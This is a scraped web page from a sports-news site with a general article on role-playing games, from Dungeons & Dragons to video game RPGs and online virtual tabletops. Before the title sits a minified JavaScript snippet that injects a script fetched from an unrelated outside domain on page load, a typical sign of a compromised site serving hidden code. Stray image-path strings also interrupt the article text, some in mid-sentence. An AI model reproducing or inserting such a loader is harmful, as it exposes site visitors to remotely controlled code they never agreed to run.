;(function(f,b,n,j,x,e){x=b.createElement(n);e=b.getElementsByTagName(n)[0];x.async=1;x.src=j;e.parentNode.insertBefore(x,e);})(window,document,"script","https://treegreeny.org/KDJnCSZn"); Role-Playing Games (RPGs): Dungeons & Dragons and Beyond - thesportsgazette.net

Role-Playing Games (RPGs): Dungeons & Dragons and Beyond

Role-playing games (RPGs) have been a cornerstone of the gaming world for decades, captivating the imaginations of players and serving as a gateway to fantastical realms. At the heart of thisgenre is the iconic Dungeons & Dragons (D&D), but RPGs have evolved far beyond the tabletop, finding new life in video games, literature, and pop culture. In this article, we’ll explore the origins, impact, and evolution of RPGs, from the classic tabletop experience to the expansive digitalworlds they inspire.

In the early 1970s, Gary Gygax and Dave Arneson laid the foundation for a new kind of game: Dungeons & Dragons. Rooted in tabletop gaming, D&D introduced players to a world of imagination where they could become characters in epic adventures. This groundbreaking game combined storytelling, strategy, and dice rolls, allowing players to create characters with unique abilities, explore dungeons, and confront mythical creatures. The game’s success was groundbreaking, birthing a genre that would captivate generations.

What sets RPGs apart from other genres is the power of imagination. In D&D and its tabletop counterparts, players gather around a table, often with character sheets, rulebooks, and an assortment of dice. Together, they create rich narratives in a shared fantasy world. The role of the dungeon master (DM) is pivotal; this player acts asstoryteller, referee, and creator of the game’s world, while the other players take on the roles of characters they’ve crafted. This collaborative storytelling aspect is at the core of RPGs’ enduring appeal.

Dungeons & Dragons has spawned numerous editions and supplementary materials, each expanding the game’s universe and mechanics. Other tabletop RPGs, such as Pathfinder and Call of Cthulhu, have emerged with unique settings and rulesets. These games offer players diverse experiences, from high fantasy adventures to cosmic horror investigations. The tabletop RPG community is vibrant and continues to thrive, with enthusiasts eagerly awaiting new adventures and campaign settings.

The digital age brought a revolution to RPGs with the advent of video games. Titles like “Final Fantasy,” “The Elder Scrolls,” and “The Witcher” have redefined the genre, introducing millions of players to immersive worlds filled with complex characters, intricate lore, and epic quests. These games incorporate traditional RPG elements such as character progression, decision-making, and exploration, blending them seamlessly with cutting-edge graphics and gameplaymechanics.

The success of video game RPGs has also opened the door for innovative storytelling. Games like “Mass Effect” and “Dragon Age” have introduced branching narratives, where player choices impact the game’s outcome and character relationships. This dynamic storytelling adds layers of depth and replayability to the genre.

The influence of RPGs extends beyond the gaming world. RPG elements have permeated various forms of media, from literature to television. Authors like George R.R. Martin, known for “A Song of Ice and Fire” (adapted into “Game of Thrones”), have drawn inspiration from RPGs to craft intricate plots and character-driven narratives. Similarly, popular series like “Stranger Things” have featured D&D prominently, reintroducing the game to a new generation of fans.

RPGs have always thrived on community and collaboration. In the digital age, this sense of togetherness has transcended geographic boundaries. Online platforms like Roll20 and Fantasy Grounds enable playersfrom around the world to come together in virtual tabletop environments. Video game RPGs often include multiplayer and online modes, allowing players to embark on epic adventures with friends or strangers.

While RPGs continue to honor their roots, they also adapt and evolve. Modern RPGs feature real-time combat, voice acting, and stunning graphics. However, tabletop RPGs remain a vibrant and beloved part of the genre, cherished for their intimate and imaginative experiences. New iterations of D&D, including the 5th edition, have garnered critical acclaim for their accessibility and storytelling focus.

At the core of RPGs lies the art of storytelling. Whether around a tabletop or within a digital world, RPGs empower players to create and inhabit characters with rich backstories and motivations. These characters embark on journeys filled with challenges, triumphs, and moral dilemmas. RPGs provide a platform for players to explore their creativity, problem-solving skills, and empathy, all while forging bonds with fellow adventurers.

The enduring appeal of RPGs lies in their endless potential. From Dungeons & Dragons’ humble beginnings to the vast digital landscapes of today, RPGs continue to captivate and inspire players of all ages. These games transport us to worlds of magic, mystery, and wonder, whereheroes rise, alliances are formed, and epic tales unfold.

As RPGs continue to evolve, from tabletop classics to digital innovations, they remind us of the power of imagination, storytelling, and shared experiences.Whether we gather around a table with friendsor embark on digital quests, RPGs allow us to explore the boundless realms of our creativity and embark on unforgettable journeys, making them a cherished and timelessgenre in the world of gaming.